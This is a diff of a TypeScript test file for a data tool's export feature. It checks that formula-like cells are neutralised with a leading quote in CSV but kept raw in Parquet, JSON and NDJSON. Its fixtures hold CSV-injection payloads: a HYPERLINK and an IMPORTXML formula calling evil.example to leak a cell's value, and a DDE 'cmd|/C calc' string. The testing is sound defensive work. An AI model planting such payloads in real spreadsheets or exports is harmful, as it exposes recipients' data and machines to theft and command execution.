@@ -13,8 +13,28 @@ import type { JobSummary } from '../../shared/jobs';
 import { makeLabelingWorkspace } from './labelingFixture';
 import { call, tempDir } from './support';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example","x")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(1+1)', '\t=1', '\r=1', 'plain text', '', 'a=b'];
-const SAFE = ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'+1+cmd|/C calc!A0", "'-2+3", "'@SUM(1+1)", "'\t=1", "'\r=1", 'plain text', '', 'a=b'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example","x")',
+  '+1+cmd|/C calc!A0',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1',
+  '\r=1',
+  'plain text',
+  '',
+  'a=b',
+];
+const SAFE = [
+  '\'=HYPERLINK("http://evil.example","x")',
+  "'+1+cmd|/C calc!A0",
+  "'-2+3",
+  "'@SUM(1+1)",
+  "'\t=1",
+  "'\r=1",
+  'plain text',
+  '',
+  'a=b',
+];
 
 let host: Host;
 let server: RunningServer;
@@ -31,7 +51,9 @@ async function post<T>(method: string, body: unknown, token: string | null = ser
 }
 
 async function download(file: string): Promise<string> {
-  const response = await fetch(`http://127.0.0.1:${server.port}/api/download?path=${encodeURIComponent(file)}&token=${server.token}`);
+  const response = await fetch(
+    `http://127.0.0.1:${server.port}/api/download?path=${encodeURIComponent(file)}&token=${server.token}`,
+  );
   expect(response.status).toBe(200);
   const local = path.join(tempDir('sift-download-'), path.basename(file));
   fs.writeFileSync(local, Buffer.from(await response.arrayBuffer()));
@@ -66,32 +88,66 @@ afterAll(async () => {
 describe('CSV written for people', () => {
   it('query results: formula-like text cells get a leading quote, numbers stay numbers, Parquet and JSON keep the raw value', async () => {
     const values = HOSTILE.map((text, i) => `(${i}, ${quote(text)}, ${-5 - i})`);
-    const result = await post<QueryResult>('query.run', { queryId: 'formulas', sql: `SELECT * FROM (VALUES ${values.join(', ')}) t(n, cell, delta) ORDER BY n`, pageSize: 0 });
-    expect((await post<{ rows: unknown[][] }>('query.page', { resultId: result.resultId, offset: 0, limit: 20 })).rows.map((row) => row[1])).toEqual(HOSTILE);
+    const result = await post<QueryResult>('query.run', {
+      queryId: 'formulas',
+      sql: `SELECT * FROM (VALUES ${values.join(', ')}) t(n, cell, delta) ORDER BY n`,
+      pageSize: 0,
+    });
+    expect(
+      (await post<{ rows: unknown[][] }>('query.page', { resultId: result.resultId, offset: 0, limit: 20 })).rows.map(
+        (row) => row[1],
+      ),
+    ).toEqual(HOSTILE);
     const exported = async (format: 'csv' | 'parquet' | 'json') => {
       const { jobId } = await post<{ jobId: string }>('query.export', { resultId: result.resultId, format });
       const job = (await host.jobs.wait(jobId)) as JobSummary & { result: { path: string } };
       expect(job.status).toBe('done');
       return download(job.result.path);
     };
-    const csv = await readBack(`SELECT cell, delta FROM read_csv(${quote(await exported('csv'))}, all_varchar = true, header = true) ORDER BY n::INT`);
+    const csv = await readBack(
+      `SELECT cell, delta FROM read_csv(${quote(await exported('csv'))}, all_varchar = true, header = true) ORDER BY n::INT`,
+    );
     expect(csv.map((row) => row[0] ?? '')).toEqual(SAFE);
     expect(csv.map((row) => row[1])).toEqual(HOSTILE.map((_, i) => String(-5 - i))); // a negative number is not a formula
-    expect((await readBack(`SELECT cell FROM read_parquet(${quote(await exported('parquet'))}) ORDER BY n`)).map((row) => row[0])).toEqual(HOSTILE);
+    expect(
+      (await readBack(`SELECT cell FROM read_parquet(${quote(await exported('parquet'))}) ORDER BY n`)).map(
+        (row) => row[0],
+      ),
+    ).toEqual(HOSTILE);
     const json = JSON.parse(fs.readFileSync(await exported('json'), 'utf8')) as { cell: string }[];
     expect(json.map((row) => row.cell)).toEqual(HOSTILE);
   });
 
   it("label exports: an annotator's note that looks like a formula is neutralised in CSV, raw in the NDJSON trail", async () => {
-    const session = await call<SessionSummary>(host, 'sessions.create', { name: 'notes', pool: 'SELECT content_id FROM content', model: 'text-distil', version: 't1', strategy: 'random', batchSize: 3 });
+    const session = await call<SessionSummary>(host, 'sessions.create', {
+      name: 'notes',
+      pool: 'SELECT content_id FROM content',
+      model: 'text-distil',
+      version: 't1',
+      strategy: 'random',
+      batchSize: 3,
+    });
     const { token } = await post<{ token: string }>('annotators.createToken', { name: 'mallory' });
     const note = '=IMPORTXML("http://evil.example/?"&A1,"//x")';
-    await post('labels.record', { sessionId: session.id, action: { kind: 'label', contentId: 'c03', labels: [{ category: 'spam', value: 0 }], note } }, token);
+    await post(
+      'labels.record',
+      {
+        sessionId: session.id,
+        action: { kind: 'label', contentId: 'c03', labels: [{ category: 'spam', value: 0 }], note },
+      },
+      token,
+    );
     const csv = await post<LabelExportOutcome>('labels.export', { sessionId: session.id, format: 'csv' });
-    const rows = await readBack(`SELECT annotator_id, note FROM read_csv(${quote(await download(csv.path))}, all_varchar = true, header = true) WHERE note IS NOT NULL`);
+    const rows = await readBack(
+      `SELECT annotator_id, note FROM read_csv(${quote(await download(csv.path))}, all_varchar = true, header = true) WHERE note IS NOT NULL`,
+    );
     expect(rows).toEqual([['mallory', `'${note}`]]);
     const trail = await post<LabelExportOutcome>('labels.export', { sessionId: session.id, format: 'ndjson' });
-    const events = fs.readFileSync(trail.path, 'utf8').trim().split('\n').map((line) => JSON.parse(line) as { note: string | null });
+    const events = fs
+      .readFileSync(trail.path, 'utf8')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { note: string | null });
     expect(events.filter((event) => event.note !== null).map((event) => event.note)).toEqual([note]);
   });
 });
